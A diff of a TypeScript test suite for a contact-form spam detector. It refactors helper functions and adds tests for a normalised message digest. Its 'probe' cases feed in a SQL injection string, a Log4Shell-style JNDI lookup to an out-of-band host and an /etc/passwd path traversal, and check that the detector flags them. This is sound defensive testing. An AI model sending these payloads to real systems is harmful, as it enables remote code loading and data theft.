@@ -10,9 +10,11 @@ import {
 import { isMovable, isSuspected, pointsOf, type SignalCode } from "#lib/domain/spam/signals";
 
 const FORM: FormPast = { count: 200, usualLinks: 0, scripts: new Set(["Latin"]) };
+const sameTimes = (elsewhere: number, here: number) => ({
+  countSame: () => ({ elsewhere, here }),
+});
 const WORKSPACE: WorkspacePast = {
-  sameElsewhere: 0,
-  sameHere: 0,
+  ...sameTimes(0, 0),
   isDisposable: (domain) => domain === "mailinator.com",
 };
 
@@ -23,12 +25,15 @@ const message = (
   fields: Object.entries(fields) satisfies FieldPairs,
   name: fields.name ?? null,
   email: fields.email ?? null,
+  chosen: new Set(),
   filledInMs: null,
   challenge: null,
   ...more,
 });
 
 const GOOD = { name: "Ada Lovelace", email: "ada@example.com", message: "Do you open on Sunday?" };
+
+const LONG = { ...GOOD, message: "Do you open on Sunday, and can we come with two dogs?" };
 
 type Case = [
   code: SignalCode,
@@ -37,10 +42,10 @@ type Case = [
   past?: { form?: Partial<FormPast>; workspace?: Partial<WorkspacePast> },
 ];
 
+const signalsOf = (given: JudgedMessage, past: Case[3] = {}) =>
+  judge(given, { ...FORM, ...past.form }, { ...WORKSPACE, ...past.workspace }).signals;
 const codesOf = (given: JudgedMessage, past: Case[3] = {}) =>
-  judge(given, { ...FORM, ...past.form }, { ...WORKSPACE, ...past.workspace }).map(
-    ({ code }) => code,
-  );
+  signalsOf(given, past).map(({ code }) => code);
 
 const COUNTS: Case[] = [
   [
@@ -56,8 +61,8 @@ const COUNTS: Case[] = [
   ["probe", "SQL", message({ ...GOOD, name: "1' OR '1'='1" })],
   ["probe", "a look-up", message({ ...GOOD, message: "${" + "jndi:ldap://x.oast.fun/a}" })],
   ["probe", "a path", message({ ...GOOD, message: "../../../../etc/passwd" })],
-  ["burst", "the same text to two forms", message(GOOD), { workspace: { sameElsewhere: 1 } }],
-  ["burst", "the same text three times", message(GOOD), { workspace: { sameHere: 2 } }],
+  ["burst", "the same text to two forms", message(LONG), { workspace: sameTimes(1, 0) }],
+  ["burst", "the same text three times", message(LONG), { workspace: sameTimes(0, 2) }],
   ["markup", "a forum's link", message({ ...GOOD, message: "[url=https://a.example]a[/url]" })],
   [
     "markup",
@@ -90,7 +95,7 @@ const INNOCENT: Case[] = [
     "a question about SQL",
     message({ ...GOOD, message: "Which is better, select or update?" }),
   ],
-  ["burst", "the same text twice to one form", message(GOOD), { workspace: { sameHere: 1 } }],
+  ["burst", "the same text twice to one form", message(LONG), { workspace: sameTimes(0, 1) }],
   ["markup", "a price in brackets", message({ ...GOOD, message: "[urgent] <3 your shop" })],
   ["echo", "a form that asks for an address alone", message({ email: GOOD.email })],
   [
@@ -123,7 +128,7 @@ describe("points", () => {
   );
 
   test("weak signals never make two together", () => {
-    const signals = judge(weak, FORM, WORKSPACE);
+    const signals = signalsOf(weak);
     expect(signals.length).toBeGreaterThan(2);
     expect(pointsOf(signals)).toBe(1);
     expect(isSuspected(signals)).toBe(false);
@@ -131,31 +136,50 @@ describe("points", () => {
 
   test("a weak signal and a link make a message suspected, a link in code moves it", () => {
     const linked = { ...GOOD, email: "x@mailinator.com", message: "https://a.example" };
-    expect(isSuspected(judge(message(linked), FORM, WORKSPACE))).toBe(true);
-    expect(isMovable(judge(message(linked), FORM, WORKSPACE))).toBe(false);
+    expect(isSuspected(signalsOf(message(linked)))).toBe(true);
+    expect(isMovable(signalsOf(message(linked)))).toBe(false);
     const coded = { ...linked, message: "[url=https://a.example]" };
-    expect(isMovable(judge(message(coded), FORM, WORKSPACE))).toBe(true);
+    expect(isMovable(signalsOf(message(coded)))).toBe(true);
     const pasted = { ...GOOD, message: 'Why is <a href="https://a.example">this</a> not shown?' };
-    expect(isSuspected(judge(message(pasted), FORM, WORKSPACE))).toBe(true);
-    expect(isMovable(judge(message(pasted), FORM, WORKSPACE))).toBe(false);
+    expect(isSuspected(signalsOf(message(pasted)))).toBe(true);
+    expect(isMovable(signalsOf(message(pasted)))).toBe(false);
   });
 
   test("a passed challenge takes one point away, and never makes less than none", () => {
     const echo = { ...GOOD, message: GOOD.name };
-    expect(pointsOf(judge(message(echo, { challenge: "passed" }), FORM, WORKSPACE))).toBe(1);
-    expect(pointsOf(judge(message(GOOD, { challenge: "passed" }), FORM, WORKSPACE))).toBe(0);
+    expect(pointsOf(signalsOf(message(echo, { challenge: "passed" })))).toBe(1);
+    expect(pointsOf(signalsOf(message(GOOD, { challenge: "passed" })))).toBe(0);
   });
 
   test("the strongest signal comes first", () => {
-    const signals = judge(
+    const signals = signalsOf(
       message({
         ...GOOD,
         message: "[url=https://a.example] https://b.example https://c.example ../../etc/passwd",
       }),
-      FORM,
-      WORKSPACE,
     );
     expect(signals.map(({ points }) => points)).toEqual([3, 2, 1]);
+  });
+});
+
+describe("the digest of a message", () => {
+  const digestOf = (fields: Record<string, string>, chosen: string[] = []) =>
+    judge(message(fields, { chosen: new Set(chosen) }), FORM, WORKSPACE).traits.digest;
+
+  test("is that of what was written, whoever says to have sent it, in any case and spacing", () => {
+    const one = digestOf(LONG);
+    expect(one).toMatch(/^[\w-]{12}$/);
+    const message = `  ${LONG.message.toUpperCase().replaceAll(" ", "  ")}`;
+    expect(digestOf({ name: "Bob", email: "bob@example.org", message })).toBe(one);
+    expect(digestOf({ ...LONG, message: LONG.message.replace("two", "no") })).not.toBe(one);
+  });
+
+  test("leaves out what many messages of a form have: choices and consent", () => {
+    const consent = "I agree that my data is stored as the privacy policy says.";
+    expect(digestOf({ ...GOOD, consent })).toBeNull();
+    expect(digestOf({ ...GOOD, datenschutz: consent })).toBeNull();
+    expect(digestOf({ ...GOOD, plan: consent })).not.toBeNull();
+    expect(digestOf({ ...GOOD, plan: consent }, ["plan"])).toBeNull();
   });
 });
 
@@ -168,8 +192,8 @@ test("any message gets a verdict, and what follows 8,000 characters isn't looked
   const sender = fc.option(fc.string({ maxLength: 60 }));
   fc.assert(
     fc.property(fields, sender, sender, (given, name, email) => {
-      const judged = { fields: given, name, email, filledInMs: null, challenge: null } as const;
-      for (const { points } of judge(judged, FORM, WORKSPACE)) expect([1, 2, 3]).toContain(points);
+      const judged = { ...message({}), fields: given, name, email };
+      for (const { points } of signalsOf(judged)) expect([1, 2, 3]).toContain(points);
     }),
   );
   const padding = Object.fromEntries(
